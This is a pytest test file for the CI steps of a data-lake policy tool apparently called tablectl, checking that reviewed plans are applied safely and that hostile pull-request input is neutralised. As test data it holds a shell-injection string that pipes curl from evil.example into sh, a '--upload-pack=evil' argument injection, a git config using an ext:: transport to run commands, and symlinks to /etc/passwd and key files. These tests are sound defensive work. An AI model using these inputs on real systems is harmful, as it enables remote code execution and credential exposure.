"""The steps run by hand: pull request, merge, schedule."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

import tablectl
from tablectl.ci.__main__ import main
from tablectl.model.errors import DEBUG
from tablectl.planning.plan_file import digest_of, dump_plan
from tablectl.policies.read_config import load_config
from tests.ci.conftest import FakeGitHub, Runner, base_commit, git, land, merge, read_outputs, zipped
from tests.ci.hostile_files import hostile_files
from tests.commands.conftest import FakeSpark, Repository
from tests.commands.log_lake import Logged, set_property

COMMIT, HEAD = "c" * 40, "a" * 40
EVIL = 'x"; curl evil.example | sh #`$(id)`\n::add-mask::*'


@pytest.fixture
def orders(repo: Repository) -> Path:
    table = repo.table("orders", properties={"owner.team": "web"})
    repo.policies({"orders": "{properties: {owner.team: pay}}"})
    return table


def pull_request(runner: Runner, number: int = 5, **inputs: object) -> dict[str, str]:
    """A plan on a pull request whose author wrote what he liked; its outputs."""
    head = {"ref": EVIL, "sha": HEAD, "repo": {"full_name": EVIL}}
    base = {"sha": "b" * 40}
    runner.event(pull_request={"number": number, "title": EVIL, "body": EVIL, "head": head, "base": base})
    merged = runner.root / "base.yaml"
    shutil.copy("tablectl.yaml", merged) if Path("tablectl.yaml").exists() else merged.write_text("")
    runner.environ["TABLECTL_BASE_CONFIG"] = str(merged)
    _, outputs = runner.step("plan", **inputs)
    del runner.environ["TABLECTL_BASE_CONFIG"]
    if outputs["digest"]:
        runner.step("comment", report=outputs["report"], digest=outputs["digest"])
    return outputs


def keep(github: FakeGitHub, outputs: dict[str, str], store: Path, run: int = 10) -> None:
    """What upload-artifact does."""
    shutil.copytree(outputs["folder"], store / str(run))
    event = "pull_request" if "-pr-" in outputs["artifact"] else "workflow_dispatch"
    github.kept(outputs["artifact"], run=run, head=HEAD, event=event, files=store / str(run))


def keep_again(github: FakeGitHub, store: Path, run: int = 10) -> None:
    """The last artifact, with the files as they are now."""
    github.archives[max(github.archives)] = zipped(store / str(run))


def fetch(runner: Runner, **inputs: object) -> tuple[int, dict[str, str]]:
    """The step that downloads the plan."""
    if not Path(".git").exists():
        land(runner)
    code, outputs = runner.step("find", **inputs)
    if code == 0:
        runner.environ["INPUT_DIGEST"] = outputs["digest"]
    return code, outputs


def downloaded(runner: Runner) -> Path:
    return Path(runner.environ["RUNNER_TEMP"]) / "tablectl-jobs" / "tablectl" / "reviewed"


def test_a_pull_request_gets_a_comment_a_page_an_artifact_and_annotations(
    runner: Runner, github: FakeGitHub, orders: Path
) -> None:
    outputs = pull_request(runner)
    assert outputs["exit-code"] == "0"
    assert outputs["changes"] == "true"
    assert outputs["artifact"] == "tablectl-plan-pr-5"
    assert sorted(file.name for file in Path(outputs["folder"]).iterdir()) == [
        "plan.html",
        "plan.json",
        "plan.md",
        "plan.sarif",
    ]
    report = Path(outputs["report"]).read_text()
    assert report.startswith("**🟡 Plan: Concurrent writes fail once** · 🟡 <b>1 blocking</b>")
    assert runner.summary.strip() == report.strip()
    assert json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"] == [], "wanted changes are not alerts"

    code, commented = runner.step("comment", report=outputs["report"], digest=outputs["digest"])
    assert (code, commented["comment"]) == (0, "https://github.example/c/101")
    body = github.comments[5][0]["body"]
    assert body.replace(f"\n\nplan digest: `{outputs['digest']}`", "").split() == report.split()

    (Path("policies") / "lake.yaml").write_text(f"version: 1\ntables:\n  delta.`{orders}`:\n")
    runner.step("comment", report=pull_request(runner)["report"])
    (comment,) = github.comments[5]
    assert comment["body"].startswith("**✅ Plan: ")
    assert EVIL.partition(" ")[0] not in json.dumps([runner.log, outputs, github.asked])


@pytest.fixture
def one_of_two(repo: Repository, orders: Path) -> str:
    """Two tables that differ from their policies, of which only that of ``orders`` changed since a commit, which is the
    result.
    """
    repo.table("customers", properties={"owner.team": "web"})
    customers = {"customers": "{properties: {owner.team: crm}}"}
    repo.policies({"orders": "{properties: {owner.team: web}}", **customers})
    commit = base_commit()
    repo.policies({"orders": "{properties: {owner.team: pay}}", **customers})
    return commit


def planned(outputs: dict[str, str]) -> list[str]:
    """The tables of a plan."""
    plan = json.loads((Path(outputs["folder"]) / "plan.json").read_text())
    return [Path(table["location"]).name for table in plan["tables"]]


def test_a_plan_since_a_commit_has_the_tables_whose_policies_changed(
    runner: Runner, github: FakeGitHub, repo: Repository, orders: Path, one_of_two: str, tmp_path: Path
) -> None:
    outputs = pull_request(runner, changed_since=one_of_two)
    assert (outputs["exit-code"], outputs["changes"]) == ("0", "true")
    assert planned(outputs) == ["orders"]
    keep(github, outputs, tmp_path)
    merge(runner, github, HEAD)
    fetch(runner)
    assert runner.step("apply")[0] == 0
    assert Logged(orders).properties == {"owner.team": "pay"}
    assert Logged(repo.lake / "customers").properties == {"owner.team": "web"}


def test_a_plan_since_the_base_works_in_a_checkout_of_one_commit(
    runner: Runner, repo: Repository, one_of_two: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    git("commit", "--quiet", "--all", "--message=change")
    git("clone", "--quiet", "--depth=1", f"file://{repo.root}", str(tmp_path / "clone"))
    monkeypatch.chdir(tmp_path / "clone")
    runner.event(pull_request={"number": 5, "base": {"sha": one_of_two}})
    runner.environ["TABLECTL_BASE_CONFIG"] = runner.step("base")[1]["config"]
    _, outputs = runner.step("plan", changed_since=one_of_two)
    assert planned(outputs) == ["orders"]


def test_a_plan_since_an_unknown_commit_says_so(runner: Runner, orders: Path) -> None:
    outputs = pull_request(runner, changed_since="no-such-commit")
    assert outputs["exit-code"] == "64"
    assert "--changed-since" in Path(outputs["report"]).read_text()


def test_a_second_plan_says_what_changed_since_the_first_and_links_the_page(
    runner: Runner, github: FakeGitHub, orders: Path
) -> None:
    first = pull_request(runner)
    artifact = "https://github.example/acme/lake/actions/runs/7/artifacts/9"
    runner.step("comment", report=first["report"], digest=first["digest"], artifact=artifact)
    body = github.comments[5][0]["body"]
    assert f'<a href="{artifact}">' in body
    assert "Since the last plan" not in body
    policies = Path("policies") / "lake.yaml"
    policies.write_text(policies.read_text().replace("pay", "billing"))
    second = pull_request(runner)
    body = github.comments[5][0]["body"]
    assert f"Since the last plan <code>{first['digest'][:12]}</code>" in body
    assert "new: blocking <code>properties.owner.team: " in body
    assert "gone: blocking <code>properties.owner.team: " in body
    runner.step("comment", report=second["report"], digest=second["digest"], artifact='javascript:"x')
    assert "javascript" not in github.comments[5][0]["body"]


def test_pending_changes_are_annotations_of_the_job_one_per_group(runner: Runner, orders: Path) -> None:
    runner.event(ref="refs/heads/main")
    runner.step("plan")
    (found,) = re.findall(r"(?m)^::(\w+) file=policies/lake.yaml,line=\d+,title=tablectl::(.*)$", runner.log)
    assert found[0] == "notice"
    assert found[1].startswith("blocking: ")
    assert "%0Aproperties.owner.team: " in found[1]


def test_what_was_reviewed_is_applied_when_it_is_merged(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    runner.event(ref="refs/heads/main")
    code, found = fetch(runner)
    assert (code, found["run"], found["pull-request"]) == (0, "10", "5")
    assert {each.stat().st_mode & 0o077 for each in downloaded(runner).iterdir()} == {0}
    code, applied = runner.step("apply")
    assert code == 0
    assert Logged(orders).properties == {"owner.team": "pay"}
    assert runner.summary.count("**✅ Apply: ") == 1
    runner.step("comment", mode="apply", report=applied["report"], pull_request=found["pull-request"])
    assert github.comments[5][1]["body"].startswith("**✅ Apply: ")

    assert runner.step("apply")[0] == 0, "the job run again finds all of it done"
    assert len(fake_spark.sent) == 1


def test_a_stale_plan_is_refused_in_words_that_say_what_to_do(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    set_property(orders, "owner.team", "someone else")
    fetch(runner)
    code, applied = runner.step("apply")
    assert code == 3
    assert applied["exit-code"] == "3"
    assert fake_spark.sent == []
    assert "stale, not changed" in runner.summary
    assert "run this workflow by hand" in runner.log

    runner.event()
    _, outputs = runner.step("plan")
    assert outputs["artifact"] == "tablectl-plan"
    keep(github, outputs, tmp_path, run=11)
    assert fetch(runner, plan_run=11)[0] == 0
    assert runner.step("apply")[0] == 0
    assert Logged(orders).properties == {"owner.team": "pay"}


def test_a_plan_of_other_policies_than_those_merged_is_refused(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    repo.policies({"orders": "{properties: {owner.team: both}}"})
    fetch(runner)
    code, _ = runner.step("apply")
    assert code == 3
    assert fake_spark.engines == []
    assert "another change was merged in between" in runner.log
    assert "What to do: plan again and apply that plan" in runner.log.replace("%0A", "\n")


def test_a_plan_of_an_environment_is_applied_in_it(
    runner: Runner, github: FakeGitHub, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    (repo.root / "tablectl.yaml").write_text("env: {dev: {variables: {TEAM: dev}}, prod: {variables: {TEAM: pay}}}\n")
    repo.policies({"orders": '{properties: {owner.team: "${TEAM}"}}'})
    runner.environ["INPUT_NAME"] = "lake-prod"
    outputs = runner.step("plan", arguments="--env=prod")[1]
    assert (outputs["exit-code"], "apply will refuse this plan" in runner.log) == ("0", False)
    keep(github, outputs, tmp_path)
    assert fetch(runner, plan_run=10)[0] == 0
    assert runner.step("apply", arguments="--env=dev")[0] == 3
    assert "the plan is for the environment prod, not for dev" in runner.summary
    assert runner.step("apply")[0] == 3
    assert "the plan is for the environment prod, not for none" in runner.summary
    assert runner.step("apply", arguments="--env=prod")[0] == 0
    assert Logged(orders).properties == {"owner.team": "pay"}


def test_what_is_wrong_in_an_environment_is_at_its_line(runner: Runner, repo: Repository, orders: Path) -> None:
    (repo.root / "tablectl.yaml").write_text("env: {prod: {variables: {TEAM: pay}}}\n")
    repo.policies({"orders": '{properties: {owner.team: "${TEAM}", note: "${X}"}}'})
    outputs = runner.step("plan", arguments="--env=prod")[1]
    text = Path(outputs["sarif"]).read_text()
    assert ("variable X" in text, "variable TEAM" in text) == (True, False)
    assert runner.step("plan", arguments="--env\nqa")[1]["sarif"] == ""


def test_a_plan_that_was_edited_is_refused(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    file = tmp_path / "10" / "plan.json"
    file.write_text(file.read_text().replace('"pay"', '"mallory"'))
    (tmp_path / "10" / "run.md").write_text("**✅ Apply: Applied and verified**")
    keep_again(github, tmp_path)
    merge(runner, github, HEAD)
    assert fetch(runner)[0] == 3
    assert "edited or damaged" in runner.log
    assert runner.step("apply")[0] == 3
    assert "Applied and verified" not in runner.summary
    assert fake_spark.engines == []


def test_an_artifact_that_is_not_the_commented_plan_is_refused(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    """The digest inside fits: it is a plan of the same policies, and another one than the comment shows."""
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    file = tmp_path / "10" / "plan.json"
    plan = tablectl.plan()
    file.write_bytes(dump_plan(replace(plan, unmatched=("lake.*",))))
    keep_again(github, tmp_path)
    fetch(runner)
    assert runner.step("apply")[0] == 3
    assert f"and the comment shows the plan {digest_of(plan)[:12]}" in runner.log
    file.write_bytes(dump_plan(plan))
    keep_again(github, tmp_path)
    fetch(runner)
    kept = runner.environ.pop("INPUT_DIGEST")
    assert runner.step("apply")[0] == 64
    runner.environ["INPUT_DIGEST"] = kept
    assert runner.step("apply", arguments="--without-policies")[0] == 64
    assert fake_spark.engines == []
    assert runner.step("apply")[0] == 0


@pytest.mark.parametrize("name", ["tablectl-venv", "tablectl-jobs", "plan"])
def test_no_name_reaches_the_virtual_environment(runner: Runner, orders: Path, name: str) -> None:
    installed = Path(runner.environ["RUNNER_TEMP"]) / "tablectl-venv" / "pyvenv.cfg"
    installed.parent.mkdir(parents=True)
    installed.write_text("home = /usr/bin")
    runner.environ["INPUT_NAME"] = name
    for step in ("plan", "plan", "drift"):
        assert runner.step(step)[0] in {0, 2}
    assert installed.read_text() == "home = /usr/bin"


def test_a_file_in_place_of_the_jobs_folder_is_an_error_in_words(runner: Runner, orders: Path) -> None:
    folder = Path(runner.environ["RUNNER_TEMP"])
    folder.mkdir(parents=True)
    (folder / "tablectl-jobs").write_text("")
    assert runner.step("plan")[0] == 1
    assert runner.log.startswith("::error title=tablectl::")


# What a branch decides

BASE = "engine: {conf: {spark.driver.memory: 2g}}\nwindow: {drain: 60}\n"


def branch(runner: Runner, repo: Repository, base: str | None) -> str:
    """A branch on a base with a file of its own, or none; the commit of the base."""
    folder = repo.root
    if base is not None:
        (folder / "tablectl.yaml").write_text(base)
    commit = base_commit()
    runner.event(pull_request={"number": 5, "base": {"sha": commit}})
    return commit


def test_what_runs_code_comes_from_the_base_branch(runner: Runner, repo: Repository, orders: Path) -> None:
    branch(runner, repo, BASE)
    Path("tablectl.yaml").write_text("engine: {conf: {spark.jars.packages: evil}}\nvariables: {TEAM: pay}\n")
    code, outputs = runner.step("base")
    assert (code, Path(outputs["config"]).read_text()) == (0, BASE)
    assert runner.step("plan")[0] == 64, "without the base the branch would decide"
    runner.environ["TABLECTL_BASE_CONFIG"] = outputs["config"]
    code, _ = runner.step("plan")
    assert code == 0
    assert "tablectl.yaml: `engine` counts once it is merged" in runner.log
    config = load_config(Path(), runner.environ)
    assert config.engine.conf == {"spark.driver.memory": "2g"}
    assert config.variables == {"TEAM": "pay"}


def test_a_branch_does_not_show_the_secret_of_a_masked_key_in_the_comment(
    runner: Runner, repo: Repository, orders: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attacker gives the variable that the base's policies give to a masked key to another one."""
    monkeypatch.setenv("TABLECTL_VAR_TOK", "hunter2")
    repo.policies({"orders": "{properties: {svc.token: '${TOK}'}}"})
    commit = base_commit()
    repo.policies({"orders": "{properties: {harmless: '${TOK}'}}"})
    runner.event(pull_request={"number": 5, "base": {"sha": commit}})
    runner.environ["TABLECTL_BASE_CONFIG"] = runner.step("base")[1]["config"]
    _, outputs = runner.step("plan")
    report = Path(outputs["report"]).read_text()
    assert "harmless" in report
    assert "hunter2" not in report + runner.summary + runner.log


@pytest.mark.parametrize("link", ["policies/keys.yaml", "policies/more", "policies"])
def test_no_link_of_a_branch_leads_out_of_the_repository(
    runner: Runner, repo: Repository, orders: Path, tmp_path: Path, link: str
) -> None:
    """An error about a file elsewhere on the runner would repeat its keys in a comment."""
    branch(runner, repo, BASE)
    runner.environ["TABLECTL_BASE_CONFIG"] = runner.step("base")[1]["config"]
    keys = tmp_path / "home" / "keys.yaml"
    keys.parent.mkdir()
    keys.write_text("hunter2: x\n")
    if link == "policies":
        shutil.rmtree("policies")
    Path(link).symlink_to(keys if link.endswith(".yaml") else keys.parent)
    code, _ = runner.step("plan")
    assert code == 1
    assert "a link that leads out of the repository" in runner.summary
    assert "hunter2" not in runner.summary + runner.log
    Path(link).unlink()
    Path("shared").mkdir(exist_ok=True)
    repo.table("more")
    Path("shared/p.yaml").write_text(f"version: 1\ntables:\n  {repo.name('more')}:\n")
    Path(link).symlink_to(Path("shared/p.yaml" if link.endswith(".yaml") else "shared").resolve())
    assert runner.step("plan")[0] == 0, "a link inside"


def test_the_configuration_of_a_branch_cannot_be_a_link_to_a_file_elsewhere(
    runner: Runner, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    """Its keys would be in a warning, in the comment and in the log."""
    branch(runner, repo, BASE)
    runner.environ["TABLECTL_BASE_CONFIG"] = runner.step("base")[1]["config"]
    keys = tmp_path / "keys.yaml"
    keys.write_text("hunter2: x\nengine: {hunter3: x}\n")
    Path("tablectl.yaml").unlink()
    Path("tablectl.yaml").symlink_to(keys)
    said = ""
    for step in ("plan", "drift"):
        assert runner.step(step)[0] == 1
        said += runner.log
    assert "a link that leads out of the repository" in runner.summary
    assert "hunter" not in runner.summary + said
    Path("own.yaml").write_text("variables: {TEAM: pay}\n")
    Path("tablectl.yaml").unlink()
    Path("tablectl.yaml").symlink_to("own.yaml")
    assert runner.step("plan")[0] == 0, "a link inside"


def test_a_base_without_a_file_has_the_defaults(runner: Runner, repo: Repository, orders: Path) -> None:
    branch(runner, repo, None)
    Path("tablectl.yaml").write_text("engine: {remote: 'sc://evil'}\n")
    _, outputs = runner.step("base")
    assert Path(outputs["config"]).read_text() == ""
    assert load_config(Path(), {"TABLECTL_BASE_CONFIG": outputs["config"]}).engine.remote is None


def test_a_base_that_cannot_be_read_fails_the_job(runner: Runner, repo: Repository, orders: Path) -> None:
    runner.event(pull_request={"number": 5, "base": {"sha": "b" * 40}})
    assert runner.step("base")[0] == 64, "no checkout"
    branch(runner, repo, BASE)
    runner.event(pull_request={"number": 5, "base": {"sha": "b" * 40}})
    assert runner.step("base")[0] == 64, "no such commit"
    assert "cannot be fetched" in runner.log
    runner.event(pull_request={"number": 5, "base": {"sha": "--upload-pack=evil"}})
    assert runner.step("base")[0] == 64
    Path("tablectl.yaml").unlink()
    Path("tablectl.yaml").symlink_to("/etc/passwd")
    runner.event(merge_group={"base_sha": base_commit(), "base_ref": "refs/heads/main"})
    assert runner.step("base")[0] == 64, "a link"
    runner.event(ref="refs/heads/main")
    assert runner.step("base") == (0, {"config": ""})


def test_a_directory_that_looks_like_a_repository_runs_nothing(
    runner: Runner, repo: Repository, orders: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Git takes a directory with HEAD, objects and refs for a bare repository, and does what its ``config`` says."""
    pwned = tmp_path / "pwned"
    lake = repo.root / "lake-policies"
    for name in ("objects", "refs"):
        (lake / name).mkdir(parents=True)
        (lake / name / "kept").write_text("")
    (lake / "HEAD").write_text("ref: refs/heads/main\n")
    (lake / "config").write_text(
        f'[core]\nbare = true\n[remote "origin"]\nurl = ext::touch {pwned}\n[protocol "ext"]\nallow = always\n'
    )
    branch(runner, repo, None)
    monkeypatch.chdir(lake)
    _, outputs = runner.step("base")
    assert Path(outputs["config"]).read_text() == ""
    runner.event(pull_request={"number": 5, "base": {"sha": "b" * 40}})
    assert runner.step("base")[0] == 64
    assert not pwned.exists()
    subprocess.run(["git", "fetch", "-q", "origin"], check=False, capture_output=True)
    assert pwned.exists(), "the attack works where Git looks for the repository itself"


def test_no_file_of_a_branch_is_code_or_configuration_of_its_job(
    runner: Runner, repo: Repository, orders: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The steps as the files have them, in processes of their own, below the root of the checkout."""
    lake = repo.root / "lake"
    shutil.copytree("policies", lake / "policies")
    monkeypatch.chdir(lake)
    branch(runner, Repository(lake, repo.lake), None)
    pwned = tmp_path / "pwned"
    for folder in (repo.root, lake):
        for name, text in hostile_files(pwned).items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
    output = tmp_path / "output"
    environ = {**os.environ, **runner.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path))}
    environ |= {"GITHUB_OUTPUT": str(output), "GITHUB_EVENT_NAME": "pull_request"}
    for step, code in (("base", 0), ("plan", 0), ("drift", 2)):
        command = [sys.executable, "-P", "-m", "tablectl.ci", step]
        ran = subprocess.run(command, env=environ, capture_output=True, text=True, check=False)
        assert ran.returncode == code, ran.stdout + ran.stderr
        environ["TABLECTL_BASE_CONFIG"] = read_outputs(output).get("config", "")
    assert not pwned.exists()


def test_no_branch_but_the_one_that_is_applied_is_a_base(
    runner: Runner, repo: Repository, orders: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever may push can push two branches, and open a pull request of one into the other."""
    branch(runner, repo, BASE)
    git("branch", "-M", "main")
    git("checkout", "--quiet", "-b", "mine")
    Path("tablectl.yaml").write_text("engine: {conf: {spark.jars.packages: evil}}\n")
    mine = base_commit()
    git("clone", "--quiet", f"file://{repo.root}", str(tmp_path / "clone"))
    monkeypatch.chdir(tmp_path / "clone")
    base = {"sha": mine, "ref": "mine"}
    for event in ({"pull_request": {"number": 5, "base": base}}, {"merge_group": {"base_sha": mine, "base_ref": "x"}}):
        runner.event(**event)
        assert Path(runner.step("base")[1]["config"]).read_text() == BASE
    assert "evil" in Path(runner.step("base", branch="x")[1]["config"]).read_text(), "the workflow names it"
    assert runner.step("base", branch="gone")[0] == 64
    assert runner.step("base", branch="--upload-pack=evil")[0] == 64


def test_a_manual_plan_on_another_branch_has_the_configuration_of_the_default_branch(
    runner: Runner, repo: Repository, orders: Path
) -> None:
    """The attacker starts the workflow by hand on his own branch, which brings no pull request and so no base."""
    base_commit()
    git("branch", "-M", "main")
    git("remote", "add", "origin", str(repo.root))
    (repo.root / "tablectl.yaml").write_text("engine: {remote: 'sc://evil.example:1'}\n")
    runner.event(inputs={})
    runner.environ |= {"GITHUB_EVENT_NAME": "workflow_dispatch", "GITHUB_REF": "refs/heads/attacker"}
    assert runner.step("plan")[0] == 64
    runner.environ["TABLECTL_BASE_CONFIG"] = runner.step("base")[1]["config"]
    assert Path(runner.environ["TABLECTL_BASE_CONFIG"]).read_text() == ""
    runner.environ |= {"GITHUB_REF": "refs/heads/main"}
    assert runner.step("base")[1]["config"] == ""


@pytest.mark.parametrize("ref", ["refs/heads/attacker", "refs/tags/main", "refs/pull/5/merge", ""])
def test_no_plan_is_applied_but_on_the_branch_from_which_plans_are_applied(
    runner: Runner, github: FakeGitHub, orders: Path, tmp_path: Path, ref: str
) -> None:
    """The attacker plans by hand on his own branch, and applies that plan there by its number: no review, no merge.
    Policies and hooks of his branch would count.
    """
    runner.event(inputs={})
    (tmp_path / "plan.json").write_bytes(dump_plan(tablectl.plan()))
    name = ref.rpartition("/")[2]
    github.kept("tablectl-plan", run=9, head=HEAD, event="workflow_dispatch", branch=name, files=tmp_path / "plan.json")
    runner.environ |= {"GITHUB_EVENT_NAME": "workflow_dispatch", "GITHUB_REF": ref, "GITHUB_REF_NAME": name}
    assert runner.step("find", plan_run=9)[0] == 64
    assert "plans are applied on main alone" in runner.log
    assert github.asked == []
    reviewed = tmp_path / "runner" / "temp" / "tablectl-jobs" / "tablectl" / "reviewed"
    reviewed.mkdir(parents=True)
    shutil.copy(tmp_path / "plan.json", reviewed)
    assert runner.step("apply", digest="chosen by hand")[0] == 64
    assert "plans are applied on main alone" in runner.log
    assert Logged(orders).properties == {"owner.team": "web"}


def test_another_branch_that_the_job_names_is_the_one_that_is_applied(
    runner: Runner, github: FakeGitHub, orders: Path, tmp_path: Path
) -> None:
    outputs = pull_request(runner)
    keep(github, outputs, tmp_path)
    merge(runner, github, HEAD)
    git("branch", "-M", "release")
    runner.environ |= {"GITHUB_REF": "refs/heads/release", "INPUT_BRANCH": "release"}
    fetch(runner)
    assert runner.step("apply")[0] == 0


# What the branch declares since


@pytest.fixture
def applied(runner: Runner, github: FakeGitHub, orders: Path, tmp_path: Path) -> Path:
    """The table of a plan that was reviewed, merged and applied. The job can be run again."""
    Path("requirements").mkdir()
    Path("requirements", "tablectl.txt").write_text("tablectl==1\n")
    Path("tablectl.yaml").write_text("window: {drain: 60}\n")
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    assert fetch(runner)[0] == 0
    assert runner.step("apply")[0] == 0
    return orders


def later(path: str, text: str) -> None:
    """A newer commit of the branch, which the job that is run again has not checked out."""
    own = git("rev-parse", "HEAD")
    Path(path).write_text(text)
    git("add", "--all")
    git("commit", "--quiet", "--message=later")
    newest = git("rev-parse", "HEAD")
    git("checkout", "--quiet", "--detach", own)
    git("branch", "--force", "main", newest)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("policies/lake.yaml", "version: 1\ntables:\n  delta.`{orders}`: {properties: {owner.team: web}}\n"),
        ("tablectl.yaml", "window: {drain: 90}\n"),
        ("requirements/tablectl.txt", "tablectl==2\n"),
        ("policies/lake.yaml", "no policies\n"),
    ],
)
def test_a_job_that_is_run_again_after_a_revert_applies_nothing(
    runner: Runner, fake_spark: FakeSpark, applied: Path, path: str, text: str
) -> None:
    later(path, text.replace("{orders}", str(applied)))
    set_property(applied, "owner.team", "web")
    assert fetch(runner)[0] == 3
    assert "Since then main has other policies, another tablectl.yaml or other requirements" in runner.log
    assert runner.step("apply")[0] == 3
    assert len(fake_spark.sent) == 1
    assert Logged(applied).properties == {"owner.team": "web"}


def test_a_newer_commit_of_another_part_of_the_repository_holds_up_no_apply(runner: Runner, applied: Path) -> None:
    later("main.py", "print()\n")
    later("policies/lake.yaml", f"# a comment\n{Path('policies/lake.yaml').read_text()}")
    assert fetch(runner)[0] == 0
    assert runner.step("apply")[0] == 0


def test_a_plan_of_what_changed_is_held_up_by_a_revert_of_its_own_tables_alone(
    runner: Runner, github: FakeGitHub, repo: Repository, one_of_two: str, tmp_path: Path
) -> None:
    keep(github, pull_request(runner, changed_since=one_of_two), tmp_path)
    merge(runner, github, HEAD)
    text = Path("policies/lake.yaml").read_text()
    later("policies/lake.yaml", text.replace("team: crm", "team: web"))
    assert fetch(runner)[0] == 0, "another table"
    later("policies/lake.yaml", text.replace("team: pay", "team: web"))
    assert fetch(runner)[0] == 3


def test_a_tag_with_the_name_of_the_branch_is_not_its_newest_commit(runner: Runner, applied: Path) -> None:
    git("tag", "main")
    later("policies/lake.yaml", f"version: 1\ntables:\n  delta.`{applied}`: {{properties: {{owner.team: web}}}}\n")
    assert fetch(runner)[0] == 3


def test_where_the_newest_commit_cannot_be_asked_for_nothing_is_applied(runner: Runner, applied: Path) -> None:
    git("remote", "set-url", "origin", str(applied))
    assert fetch(runner)[0] == 64
    assert "is still what main declares" in runner.log
    assert runner.step("apply")[0] == 3


def test_policies_that_are_gone_allow_nothing(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    fetch(runner)
    (Path("policies") / "lake.yaml").write_text("version: 1\ntables: {}\n")
    assert runner.step("apply")[0] == 3
    shutil.rmtree("policies")
    assert runner.step("apply")[0] in {1, 64}
    assert fake_spark.engines == []


@pytest.mark.parametrize(
    "forge",
    [
        lambda text: text.replace('"unchanged"', '"tables": [], "unchanged"', 1),
        lambda text: text.replace("{", '{"sha256": "0", ', 1),
        lambda text: f"{text}{text}",
        lambda text: "[" * 1_000_000,
        lambda text: text.replace('"pay"', "NaN"),
        lambda text: f"\ufeff{text}",
        lambda text: "",
    ],
)
def test_bytes_that_two_parsers_read_differently_are_not_a_plan(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path, forge: Callable[[str], str]
) -> None:
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    file = tmp_path / "10" / "plan.json"
    file.write_text(forge(file.read_text()))
    keep_again(github, tmp_path)
    fetch(runner)
    assert runner.step("apply")[0] == 3
    assert fake_spark.engines == []


def test_a_plan_of_an_older_push_is_not_the_commented_one(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    """The older plan was reviewed once; the newer push is what was merged."""
    keep(github, pull_request(runner), tmp_path)
    older = github.archives[max(github.archives)]
    repo.policies({"orders": "{properties: {owner.team: both}}"})
    keep(github, pull_request(runner), tmp_path, run=11)
    github.archives[max(github.archives)] = older
    merge(runner, github, HEAD)
    fetch(runner)
    assert runner.step("apply")[0] == 3
    assert "and the comment shows the plan" in runner.log
    assert fake_spark.engines == []


def test_a_digest_that_is_used_again_finds_its_plan_done(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    """A comment of another pull request that carries the digest of an applied plan brings back nothing."""
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    fetch(runner)
    assert runner.step("apply")[0] == 0
    set_property(orders, "owner.team", "someone else")
    assert runner.step("apply")[0] == 3
    assert len(fake_spark.sent) == 1


def test_a_checkout_of_one_commit_fetches_the_base(
    runner: Runner, repo: Repository, orders: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    commit = branch(runner, repo, BASE)
    git("commit", "--quiet", "--allow-empty", "--message=change")
    git("clone", "--quiet", "--depth=1", f"file://{repo.root}", str(tmp_path / "clone"))
    monkeypatch.chdir(tmp_path / "clone")
    assert git("rev-parse", "HEAD") != commit
    _, outputs = runner.step("base")
    assert Path(outputs["config"]).read_text() == BASE


def test_no_plan_no_apply(runner: Runner, orders: Path) -> None:
    code, outputs = runner.step("find")
    assert (code, outputs) == (3, {})
    assert "no pull request was merged as cccccccccc" in runner.log
    assert "run this workflow by hand" in runner.summary


def test_a_run_that_came_to_no_plan(
    runner: Runner, github: FakeGitHub, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    """It kept its report, and was merged all the same."""
    repo.policies("version: 1\ntables: {a: {}}\n")
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    assert fetch(runner)[0] == 3
    assert "no comment of #5 by the account of this token carries the digest of a plan" in runner.log
    runner.event()
    keep(github, runner.step("plan")[1], tmp_path, run=11)
    assert fetch(runner, plan_run=11)[0] == 3
    assert "the run made a report and no plan" in runner.log
    assert runner.step("apply")[0] == 3
    assert "run this workflow by hand" in runner.log


def test_two_applies_that_race_meet_the_lease(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    """Both find the same plan; the second comes while the first one's statement runs."""
    keep(github, pull_request(runner), tmp_path)
    merge(runner, github, HEAD)
    Path("tablectl.yaml").write_text("window: {ttl: 10}\n")
    fetch(runner)
    second: list[int] = []

